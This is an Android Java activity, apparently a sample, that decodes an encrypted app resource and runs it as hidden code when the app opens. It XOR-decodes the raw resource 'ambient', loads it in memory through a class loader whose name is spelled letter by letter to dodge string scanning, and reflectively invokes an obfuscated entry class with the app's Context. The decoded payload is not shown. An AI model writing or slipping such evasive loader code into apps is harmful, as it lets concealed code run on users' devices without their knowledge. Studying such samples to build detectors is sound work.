package com.example.namedinpieces;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.widget.TextView;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;

/** Makes a class loader whose name it spells letter by letter, and gives it a resource of the app. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        show(start());
    }

    private String start() {
        try (InputStream raw = getResources().openRawResource(R.raw.ambient)) {
            byte[] bytes = new byte[raw.available()];
            new DataInputStream(raw).readFully(bytes);
            for (int index = 0; index < bytes.length; index++) {
                bytes[index] ^= (byte) (0x3d + index * 11);
            }
            Class<?> loader = Class.forName(new String(new char[] {'d', 'a', 'l', 'v', 'i', 'k', '.', 's', 'y', 's', 't', 'e', 'm', '.', 'I', 'n', 'M', 'e', 'm', 'o', 'r', 'y', 'D', 'e', 'x', 'C', 'l', 'a', 's', 's', 'L', 'o', 'a', 'd', 'e', 'r'}));
            Object made = loader.getConstructor(ByteBuffer.class, ClassLoader.class).newInstance(ByteBuffer.wrap(bytes), getClassLoader());
            Class<?> type = (Class<?>) loader.getMethod(new String(new char[] {'l', 'o', 'a', 'd', 'C', 'l', 'a', 's', 's'}), String.class).invoke(made, new String(new char[] {'c', 'o', 'm', '.', 'l', 'e', 'n', 'd', 'e', 'r', '.', 'c', 'o', 'r', 'e', '.', 'E', 'n', 't', 'r', 'y'}));
            return (String) type.getMethod("start", Context.class).invoke(null, this);
        } catch (IOException | ReflectiveOperationException none) {
            return "none";
        }
    }

    private void show(String text) {
        TextView view = new TextView(this);
        view.setText(text);
        setContentView(view);
    }
}
